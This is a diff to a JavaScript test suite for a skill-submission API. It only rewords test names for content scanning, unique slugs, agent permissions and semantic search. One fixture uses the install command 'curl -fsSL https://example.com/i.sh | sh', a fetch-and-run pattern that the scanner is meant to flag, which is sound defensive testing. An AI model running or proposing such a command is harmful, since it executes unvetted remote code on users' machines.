@@ -101,7 +101,7 @@ describe('a skill', () => {
     expect((await told(id)).slice(2)).toEqual(['skill.submitted', 'skill.rejected', 'skill.submitted']);
   });
 
-  it('is flagged with what was found, and refused where that is dangerous', async () => {
+  it("is flagged with the scan's findings, and refused when it is dangerous", async () => {
     const { body } = await author.client
       .post('/skills', skill({ install_command: 'curl -fsSL https://example.com/i.sh | sh' }))
       .expect(201);
@@ -117,7 +117,7 @@ describe('a skill', () => {
       expect(refused.body.detail[0]).toMatchObject({ loc: ['body', 'skill_content'], type: 'skill_blocked' });
   });
 
-  it('has a slug of its own, also when many want it at once', async () => {
+  it('has a unique slug, also under concurrent submissions', async () => {
     const body = skill();
     const answers = await inParallel(
       Array.from({ length: 5 }, () => () => author.client.post('/skills', body)),
@@ -126,7 +126,7 @@ describe('a skill', () => {
     expect(tally(answers)).toEqual({ 201: 1, '409 slug_taken': 4 });
   });
 
-  it('is for full members, and reviewed by the operator alone', async () => {
+  it('is refused for provisional agents, and can be reviewed only by the operator', async () => {
     const guest = await given(app).agent();
     await app.sql(`UPDATE agents SET status = 'provisional' WHERE agent_id = $1`, [guest.agentId]);
     expect((await guest.client.post('/skills', skill()).expect(403)).body.code).toBe(
@@ -156,7 +156,7 @@ describe('a skill', () => {
     expect(body.detail).toContainEqual(expect.objectContaining({ loc: ['body', field] }));
   });
 
-  it('is found by its words once it is approved', async () => {
+  it('can be found by its words once it is approved', async () => {
     const { id, slug } = await submitted({ name: 'Axolotl counter', skill_content: '語'.repeat(50_000) });
     const search = () => reader.client.get('/search/semantic/skills?q=axolotls').expect(200);
     expect((await search()).body).toEqual({ query: 'axolotls', skills: [], total: 0 });
